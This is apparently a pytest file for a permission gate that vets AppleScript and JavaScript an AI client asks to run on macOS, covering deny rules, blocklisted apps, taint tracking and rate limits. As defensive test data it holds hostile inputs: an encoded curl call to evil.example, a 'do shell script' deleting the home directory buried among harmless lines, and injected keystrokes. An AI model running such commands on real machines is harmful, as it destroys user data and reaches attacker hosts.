"""Scripts behind the gate's plan, over simulated apps: what runs decides what reading may do."""

import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Annotated, Any

import pytest
from script_calls import data, in_turns, plan_of
from simulated import permissions_under

from iac_applescript.toolset import Arguments, ScriptToolset, lookup_tool, open_toolset
from iac_base.errors import ToolError
from iac_base.files import open_state
from iac_gen.toolsets import toolset_rows
from iac_runtime.audit.reading import AuditQuery, find_calls
from iac_runtime.audit.writer import Audit
from iac_runtime.execution.executor import Executor
from iac_runtime.execution.process import Completed
from iac_runtime.gate.gate import Gate
from iac_runtime.gate.limiter import Limiter, RateLimits, RateWindow
from iac_runtime.gate.opening import open_simulation
from iac_runtime.gate.plans import Call, CallAnswer, CompletedCall, PendingCall, Plan, RefusedCall
from iac_runtime.language.steps import Event
from iac_runtime.policy.approvals import MAX_UNAPPROVED
from iac_runtime.policy.effects import identify_from_catalogue
from iac_runtime.policy.permissions import Requester
from iac_runtime.policy.prompts import LINE_LIMIT
from iac_runtime.tool import limits, tool
from iac_runtime.tools.catalogue import Catalogue
from iac_runtime.tools.own import added_tools, tool_of_row

READS = 'tell application "Music" to get name of current track'
ASKS = f'if application "Music" is running then {READS}'
PLAYER = "com.apple.Music"


@pytest.fixture
def executor(catalogue: Catalogue) -> Executor:
    return Executor(open_simulation(catalogue, None))


@pytest.fixture
def toolset(
    catalogue: Catalogue, executor: Executor, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
):
    monkeypatch.setenv("IAC_DATA", str(tmp_path / "data"))
    # What a gate hands to a tool of this set, as far as it looks at it.
    found = open_toolset(Gate(catalogue, executor).context)
    yield found
    found.close()
    executor.close()


def plan(toolset: ScriptToolset, script: str) -> Plan:
    return plan_of(toolset, "execute_applescript", script=script)


def test_a_script_that_reads_is_safe_while_its_app_runs(
    toolset: ScriptToolset, executor: Executor
) -> None:
    running = plan(toolset, READS)
    assert (running.facts.level, running.tool.ceiling, running.facts.raised) == (
        "SAFE",
        "DANGEROUS",
        (),
    )
    executor.execute(
        Event(PLAYER, "application", "quit", "aevtquit"), app="Music", command="app_quit"
    )
    stopped = plan(toolset, READS)
    assert stopped.facts.level == "MODIFY"
    assert [row.reason for row in stopped.facts.raised] == ["Line 1 would start Music."]
    assert [app for app, _ in stopped.facts.apps] == [PLAYER]
    assert "would start Music" in stopped.facts.line
    assert executor.test_app(PLAYER).running == "no"
    assert plan(toolset, ASKS).facts.level == "SAFE"


def test_what_cannot_be_known_to_run_is_asked_about(
    toolset: ScriptToolset, executor: Executor
) -> None:
    executor.close()
    assert plan(toolset, READS).facts.level == "MODIFY"
    assert plan(toolset, "return 1 + 1").facts.level == "SAFE"


def test_nothing_is_confined_among_simulated_apps(toolset: ScriptToolset) -> None:
    found = plan(toolset, READS)
    assert "not limited to these apps by macOS" in found.facts.line
    assert "osacompile" not in data(toolset, "validate_applescript", script=READS)["checks"]


ASKED = Requester("tester", ("client",))
SCREEN = 'tell application "System Events" to tell process "{}" to get name of windows'
KEYS = 'tell application "System Events" to keystroke "a"'
NOTES = "Application('Notes').notes[0].name = 'x'"


@pytest.fixture
def gate_of(toolset: ScriptToolset, catalogue: Catalogue, executor: Executor):
    """Gates with a policy of the user, over the real store and the real audit."""
    gates: list[Gate] = []

    def make(policy: str = "", now: Callable[[], float] = time.time, **more: Any) -> Gate:
        identify = identify_from_catalogue(catalogue)
        permissions = permissions_under(policy, identify=identify, now=now)
        audit = lambda: Audit.open(open_state())  # noqa: E731
        gates.append(
            Gate(
                catalogue,
                executor,
                permissions=permissions,
                audit=audit,
                kept={open_toolset: toolset},
                **{"added": added_tools, **more},
            )
        )
        return gates[-1]

    yield make
    for gate in gates:
        gate.close()


def run(gate: Gate, script: str, caller: Requester = ASKED, **more: Any) -> CallAnswer:
    language = "javascript" if "Application(" in script else "applescript"
    given = {"script": script, "language": language}
    return gate.call(Call("execute_applescript", given, caller, **more))


@pytest.mark.parametrize("app", ["Music", "com.apple.music", "*.Music"])
def test_a_denied_app_is_not_told_by_a_script(gate_of: Callable[..., Gate], app: str) -> None:
    gate = gate_of(f'[[deny]]\napp = "{app}"\nwhy = "Mine."')
    for script in (READS, "Application('Music').pause()", SCREEN.format("Music")):
        found = run(gate, script, vouched(ASKED))
        assert isinstance(found, RefusedCall)
        assert "Mine." in found.reason
    other = run(gate, READS.replace("Music", "Notes").replace("current track", "note 1"))
    assert not isinstance(other, RefusedCall)


def vouched(caller: Requester) -> Requester:
    return caller._replace(preapproved_level="DANGEROUS")


@pytest.mark.parametrize(
    "script", [KEYS, 'do shell script "id"', "Application('Mus' + new Date()).name()"]
)
def test_what_may_reach_a_denied_app_never_runs_silently(
    gate_of: Callable[..., Gate], script: str
) -> None:
    gate = gate_of('[[deny]]\napp = "Music"')
    asks = run(gate, script, vouched(ASKED))
    assert isinstance(asks, PendingCall)
    assert "IAC cannot know which apps this reaches" in asks.question.text
    found = run(gate, script, Requester("tester", preapproved_level="DANGEROUS"))
    assert isinstance(found, RefusedCall)
    assert found.requires_prompt


def test_an_app_of_the_blocklist_is_not_operated_through_its_process(
    gate_of: Callable[..., Gate],
) -> None:
    for name in ("Terminal", "SecurityAgent"):
        press = f'tell application "System Events" to tell process "{name}" to click button 1'
        found = run(gate_of(), press)
        assert isinstance(found, RefusedCall)
        assert found.source.startswith("blocklist entry")


def test_reads_of_apps_that_were_opted_in_run(gate_of: Callable[..., Gate]) -> None:
    gate = gate_of('preset = "private"\nreads = ["Music"]')
    assert isinstance(run(gate, READS), CompletedCall)
    both = f'{READS}\ntell application "Notes" to count notes'
    asks = run(gate, both)
    assert isinstance(asks, PendingCall)
    assert "Notes" in asks.question.text


def test_scripts_count_for_the_limits(gate_of: Callable[..., Gate]) -> None:
    limits = RateLimits(reads=RateWindow(1, 60.0))
    gate = gate_of(limiter=Limiter(None, limits))
    assert isinstance(run(gate, READS), CompletedCall)
    with pytest.raises(ToolError, match="Too many calls"):
        run(gate, READS)


def test_what_a_script_returns_is_a_strangers_and_the_audit_names_its_apps(
    gate_of: Callable[..., Gate], toolset: ScriptToolset
) -> None:
    answer = Completed('"see https://evil.example/x\u200b"'.encode(), b"", 0)
    toolset.run = in_turns(lambda *_: answer)
    gate = gate_of()
    both = f'{READS}\ntell application "Notes" to count notes'
    found = run(gate, both, vouched(ASKED))
    assert isinstance(found, CompletedCall)
    assert gate.permissions.taint.find_tainted_piece("https://evil.example/x")
    assert found.note == "hidden characters are left out of a text"
    gate.close()
    for app in ("com.apple.Music", "com.apple.notes"):
        (row,) = find_calls(open_state(), AuditQuery(app=app), 9)
        assert row.app == "com.apple.Music,com.apple.Notes"
    assert not find_calls(open_state(), AuditQuery(app="com.apple"), 9)


@pytest.mark.parametrize(
    ("script", "rules"),
    [
        ('tell application "Safari" to open location "https://evil.example/x"', True),
        ('do shell script "curl https%3A%2F%2Fevil.example%2Fx"', True),
        ('tell application "Safari" to open location "https://good.example/x"', False),
        # It only reads.
        ('tell application "Notes" to count notes of folder "https://evil.example/x"', False),
    ],
)
def test_a_literal_of_a_script_that_stood_in_a_result_raises_it(
    gate_of: Callable[..., Gate], script: str, rules: bool
) -> None:
    gate = gate_of()
    gate.permissions.taint.remember_texts("see https://evil.example/x")
    planned = gate.plan_call(Call("execute_applescript", {"script": script}, ASKED))
    assert ("from-a-result" in [row.rule for row in planned.facts.raised]) is rules
    gate.close()


def decline(gate: Gate, caller: Requester, verdict: Any = "decline") -> None:
    asks = run(gate, NOTES, caller)
    assert isinstance(asks, PendingCall)
    run(gate, NOTES, caller, token=asks.token, verdict=verdict)


def test_a_client_that_is_declined_five_times_stops_no_other(
    gate_of: Callable[..., Gate],
) -> None:
    moment = [1_000_000.0]
    one, other = ASKED, Requester("other", ("client",))
    gate = gate_of(now=lambda: moment[0])
    open_question = run(gate, NOTES, one)
    assert isinstance(open_question, PendingCall)
    for _ in range(MAX_UNAPPROVED):
        decline(gate, one)
    found = run(gate, NOTES, one)
    assert isinstance(found, RefusedCall)
    assert (
        "prompts of tester were declined or ignored. No more will appear for 10 minutes"
        in found.reason
    )
    assert "iac-mcp policy resume" in found.suggestion
    decline(gate, other)
    moment[0] += 599
    assert isinstance(run(gate, NOTES, one), RefusedCall)
    moment[0] += 1
    assert isinstance(run(gate, NOTES, one), PendingCall)


def test_a_yes_to_an_open_question_ends_the_stop(gate_of: Callable[..., Gate]) -> None:
    gate = gate_of()
    asks = run(gate, NOTES)
    assert isinstance(asks, PendingCall)
    for _ in range(MAX_UNAPPROVED):
        decline(gate, ASKED)
    assert isinstance(run(gate, NOTES), RefusedCall)
    assert isinstance(run(gate, NOTES, token=asks.token, verdict="once"), CompletedCall)
    assert isinstance(run(gate, NOTES), PendingCall)


@pytest.mark.parametrize("verdict", ["once", "cancel", "error", "timeout", "unable"])
def test_only_what_a_person_saw_and_did_not_accept_stops_a_client(
    gate_of: Callable[..., Gate], verdict: str
) -> None:
    gate = gate_of()
    for _ in range(MAX_UNAPPROVED * 2):
        decline(gate, ASKED, verdict)
    assert isinstance(run(gate, NOTES), PendingCall)


@lookup_tool
def plan_count_apps(toolset: ScriptToolset, given: Arguments, _run: Any) -> dict[str, Any]:
    return {"count": sum(given["letter"] in app for app in toolset.catalogue.apps)}


@tool(level="SAFE", plan=plan_count_apps)
def count_apps(letter: Annotated[str, limits(maxLength=1)]) -> None:
    """Count apps."""


def test_a_new_script_tool_is_a_function_and_what_it_does(gate_of: Callable[..., Gate]) -> None:
    (row,) = toolset_rows([sys.modules[__name__]])
    gate = gate_of(added=lambda: {"count_apps": tool_of_row(row)})
    found = gate.call(Call("count_apps", {"letter": "x"}, ASKED))
    assert isinstance(found, CompletedCall)
    assert found.value["data"]["count"] > 0
    with pytest.raises(ToolError, match="letter"):
        gate.call(Call("count_apps", {}, ASKED))


def test_of_a_long_script_a_person_sees_the_dangerous_lines_and_not_its_head(
    gate_of: Callable[..., Gate],
) -> None:
    harmless = [f'set x{n} to "harmless {n}"' for n in range(40)]
    script = "\r".join([*harmless, 'do shell script "rm -rf ~"', *harmless])
    asks = gate_of().call(Call("execute_applescript", {"script": script}, ASKED))
    assert isinstance(asks, PendingCall)
    lines = asks.question.text.splitlines()
    assert '  line 41: do shell script "rm -rf ~"' in lines
    assert any(line.startswith("Reason: Line 41 runs a command of the shell.") for line in lines)
    assert "harmless" not in asks.question.text
    assert "harmless 39" in Path(lines[-1].partition(". All of it: ")[2]).read_text()
    assert len(lines) <= LINE_LIMIT


def test_a_file_that_changes_after_the_question_is_not_run(
    gate_of: Callable[..., Gate], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    folder = tmp_path / "scripts"
    folder.mkdir(mode=0o700)
    monkeypatch.setenv("IAC_SCRIPTS", str(folder))
    file = folder / "x.js"
    file.write_text(NOTES, encoding="utf-8")
    file.chmod(0o600)
    given = {"script_path": str(file)}
    gate = gate_of()

    def again(**more: Any) -> CallAnswer:
        return gate.call(Call("execute_applescript", given, ASKED, **more))

    asks = again()
    assert isinstance(asks, PendingCall)
    assert f"{file} (SHA-256 " in asks.question.text
    file.write_text(NOTES.replace("x", "y"), encoding="utf-8")
    found = again(token=asks.token, verdict="once")
    assert isinstance(found, RefusedCall)
    assert found.kind == "STALE"
    asks = again()
    assert isinstance(asks, PendingCall)
    file.rename(folder / "y.js")
    file.symlink_to(folder / "y.js")
    with pytest.raises(ToolError, match="is a link") as raised:
        again(token=asks.token, verdict="once")
    assert raised.value.type == "STALE"


@pytest.mark.parametrize(("script", "deed"), [
    ('tell application "Notes" to delete note "Milk"', 'delete the note "Milk" in Notes'),
    ('tell application "Notes" to set body of note "Milk" to "x"',
     'change the note "Milk" in Notes'),
    ('tell application "Notes"\ndelete note "Milk"\ndelete note "Bread"\nend tell',
     "delete notes in Notes"),
    ('tell application "Notes" to delete note ("Mi" & "lk")', "delete notes in Notes"),
    ('tell application "Notes" to delete (every note whose name is "x")', "delete notes in Notes"),
])  # fmt: skip
def test_a_script_is_asked_about_by_the_objects_that_it_names(
    gate_of: Callable[..., Gate], script: str, deed: str
) -> None:
    asks = gate_of().call(Call("execute_applescript", {"script": script}, ASKED))
    assert isinstance(asks, PendingCall)
    said = f"tester wants to run an AppleScript that can {deed}."
    assert asks.question.text.splitlines()[0] == said
